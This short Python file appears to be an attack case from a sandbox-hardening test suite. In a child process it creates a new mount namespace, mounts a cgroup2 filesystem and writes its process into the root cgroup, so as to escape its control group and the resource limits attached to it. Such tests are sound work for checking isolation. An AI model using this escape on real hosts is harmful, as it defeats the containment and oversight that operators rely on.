"""Leaves its own control group, and with it every limit."""

import os

from kernel import NEWNS, call, in_child, mount


def attack(world):
    def work():
        call("unshare", NEWNS)
        os.mkdir("/tmp/group2")
        mount("none", "/tmp/group2", "cgroup2")
        before = open("/proc/self/cgroup").read()
        with open("/tmp/group2/cgroup.procs", "w") as file:
            file.write("0")
        return open("/proc/self/cgroup").read() != before
    return in_child(work)
